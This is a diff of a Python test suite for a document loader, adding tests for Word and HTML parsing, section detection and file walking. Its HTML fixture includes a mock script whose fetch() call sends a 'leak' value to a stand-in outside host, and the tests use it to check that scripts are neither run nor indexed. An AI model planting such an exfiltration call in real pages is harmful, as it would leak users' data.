@@ -218,6 +218,103 @@ def test_real_pdf_from_eval_set() -> None:
     assert doc.page_at(doc.text.index(page5)) == 5
 
 
+# --- Word files and web pages -----------------------------------------------------------------
+
+PORT_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>Port briefing | Ministry of Transport</title>
+<script>document.title = "hacked"; var leak = "SCRIPTWORD"; fetch("https://example.invalid/?q=" + leak);</script>
+<style>p { color: red } .STYLEWORD { }</style></head>
+<body><nav><ul><li><a href="/">Home</a></li><li><a href="/news">NAVWORD news</a></li></ul></nav>
+<div class="ad">ADWORD: buy cheap ferry tickets now</div>
+<article><h1>Port briefing</h1>
+<p>The harbour of Orvik reopened on Monday after six weeks of repairs to the northern breakwater.</p>
+<h2>Costs</h2>
+<p>The repairs cost 4 million euros,
+   paid by the port authority.</p>
+<script>document.write("INLINESCRIPTWORD")</script>
+<ul><li>Dredging of the inner basin</li><li>New mooring posts</li></ul>
+<h3>Next steps</h3>
+<p>A second phase, on the southern quay, starts in spring and is expected to last four months.</p>
+</article>
+<footer>FOOTERWORD Subscribe to our newsletter</footer></body></html>
+"""
+
+
+def test_docx_headings_paragraphs_and_tables_become_paragraphs_with_sections(tmp_path: Path, make_docx) -> None:
+    path = make_docx(
+        tmp_path / "plan.docx",
+        [
+            (0, "Ferry plan 2024"),
+            "Prepared by the harbour office.",
+            (1, "Timetable"),
+            "The first ferry leaves Orvik at 06:10\nand returns at 07:40.",
+            [["Route", "Ships"], ["Orvik - Lund", "3"]],
+            (2, "Fares"),
+            "A return ticket costs 14 euros.",
+        ],
+    )
+    doc = load(path)
+    assert doc.text == (
+        "# Ferry plan 2024\n\nPrepared by the harbour office.\n\n# Timetable\n\n"
+        "The first ferry leaves Orvik at 06:10 and returns at 07:40.\n\nRoute | Ships\n\nOrvik - Lund | 3\n\n"
+        "## Fares\n\nA return ticket costs 14 euros.\n"
+    )
+    assert doc.page_starts == () and doc.page_at(10) is None
+    assert [(s.heading, doc.text[s.start :].split("\n", 1)[0]) for s in doc.sections] == [
+        ("Ferry plan 2024", "# Ferry plan 2024"),
+        ("Timetable", "# Timetable"),
+        ("Fares", "## Fares"),
+    ]
+    assert doc.section_at(doc.text.index("harbour office")) == "Ferry plan 2024"
+    assert doc.section_at(doc.text.index("Orvik - Lund")) == "Timetable"
+    assert doc.section_at(doc.text.index("14 euros")) == "Fares"
+    assert doc.title == "Ferry plan 2024"  # no title in the core properties: the first heading
+
+
+def test_docx_title_from_core_properties_unless_junk(tmp_path: Path, make_docx) -> None:
+    blocks = [(1, "Scope"), "The survey covers the western coast."]
+    assert load(make_docx(tmp_path / "a.docx", blocks, title="Coastal survey")).title == "Coastal survey"
+    assert load(make_docx(tmp_path / "b.docx", blocks, title="Document1")).title == "Scope"
+
+
+def test_text_before_the_first_heading_has_no_section(tmp_path: Path, make_docx) -> None:
+    doc = load(make_docx(tmp_path / "memo.docx", ["Note for the minister.", (1, "Background"), "The port closed."]))
+    assert doc.section_at(0) is None
+    assert doc.section_at(doc.text.index("The port closed")) == "Background"
+
+
+def test_html_keeps_the_main_content_as_paragraphs_with_sections(tmp_path: Path) -> None:
+    path = tmp_path / "port.html"
+    path.write_text(PORT_PAGE, encoding="utf-8")
+    doc = load(path)
+    assert doc.text == (
+        "# Port briefing\n\n"
+        "The harbour of Orvik reopened on Monday after six weeks of repairs to the northern breakwater.\n\n"
+        "## Costs\n\nThe repairs cost 4 million euros, paid by the port authority.\n\n"
+        "Dredging of the inner basin\n\nNew mooring posts\n\n"
+        "### Next steps\n\n"
+        "A second phase, on the southern quay, starts in spring and is expected to last four months.\n"
+    )
+    assert doc.title == "Port briefing"
+    assert [s.heading for s in doc.sections] == ["Port briefing", "Costs", "Next steps"]
+    assert doc.section_at(doc.text.index("mooring")) == "Costs"
+    assert doc.page_starts == ()
+
+
+def test_html_scripts_are_never_run_nor_indexed_and_page_furniture_is_dropped(tmp_path: Path) -> None:
+    path = tmp_path / "port.htm"
+    path.write_text(PORT_PAGE, encoding="utf-8")
+    text = load(path).text
+    for word in ("SCRIPTWORD", "INLINESCRIPTWORD", "STYLEWORD", "NAVWORD", "ADWORD", "FOOTERWORD", "hacked", "fetch("):
+        assert word not in text
+
+
+def test_html_in_a_legacy_encoding_is_decoded(tmp_path: Path) -> None:
+    path = tmp_path / "legacy.html"
+    body = "<html><body><article><p>The café on the quay reopened after the storm, said the préfet.</p></article></body></html>"
+    path.write_bytes(body.encode("cp1252"))
+    assert "café on the quay" in load(path).text and "préfet" in load(path).text
+
+
 # --- refusals ---------------------------------------------------------------------------------
 
 
@@ -229,12 +326,13 @@ def test_missing_file_and_folder_are_refused(tmp_path: Path) -> None:
 
 
 def test_unsupported_suffix_is_refused_and_suffix_check_ignores_case(tmp_path: Path) -> None:
-    docx = tmp_path / "memo.docx"
-    docx.write_bytes(b"PK\x03\x04 not really")
-    assert refusal(docx) == "unsupported file type '.docx' (supported: .txt, .md, .pdf)"
+    supported = ".txt, .md, .pdf, .docx, .html, .htm"
+    odt = tmp_path / "memo.odt"
+    odt.write_bytes(b"PK\x03\x04 not really")
+    assert refusal(odt) == f"unsupported file type '.odt' (supported: {supported})"
     bare = tmp_path / "README"
     bare.write_text("hello")
-    assert refusal(bare) == "unsupported file type (no extension) (supported: .txt, .md, .pdf)"
+    assert refusal(bare) == f"unsupported file type (no extension) (supported: {supported})"
     upper = tmp_path / "LOUD.TXT"
     upper.write_text("Shouting title\n")
     assert load(upper).title == "Shouting title"
@@ -343,23 +441,23 @@ def test_child_crash_becomes_child_error() -> None:
 def test_iter_files_walks_folders_sorted_supported_and_visible_only(tmp_path: Path) -> None:
     root = tmp_path / "docs"
     for name in (
-        "b.txt", "a.md", "C.PDF", "notes.docx", ".hidden.txt", ".git/config.txt",
-        "sub/z.txt", "sub/image.png", "sub/deeper/y.md", "sub/.cache/x.md", "aa/k.txt",
+        "b.txt", "a.md", "C.PDF", "notes.docx", "page.HTM", "old.doc", ".hidden.txt", ".git/config.txt",
+        "sub/z.txt", "sub/image.png", "sub/deeper/y.md", "sub/site.html", "sub/.cache/x.md", "aa/k.txt",
     ):  # fmt: skip
         (root / name).parent.mkdir(parents=True, exist_ok=True)
         (root / name).write_text("x")
     files = iter_files([root])
     assert inspect.isgenerator(files)
     assert [p.relative_to(root).as_posix() for p in files] == [
-        "C.PDF", "a.md", "aa/k.txt", "b.txt", "sub/deeper/y.md", "sub/z.txt",
+        "C.PDF", "a.md", "aa/k.txt", "b.txt", "notes.docx", "page.HTM", "sub/deeper/y.md", "sub/site.html", "sub/z.txt",
     ]  # fmt: skip
 
 
 def test_iter_files_yields_explicit_paths_as_given(tmp_path: Path) -> None:
-    (tmp_path / "memo.docx").write_text("x")
+    (tmp_path / "memo.odt").write_text("x")
     (tmp_path / ".hidden.txt").write_text("x")
     (tmp_path / "folder").mkdir()
     (tmp_path / "folder" / "in.md").write_text("x")
-    given = [tmp_path / "memo.docx", tmp_path / "missing.pdf", tmp_path / ".hidden.txt"]
+    given = [tmp_path / "memo.odt", tmp_path / "missing.pdf", tmp_path / ".hidden.txt"]
     walked = list(iter_files([*given, tmp_path / "folder"]))
     assert walked == [*given, tmp_path / "folder" / "in.md"]
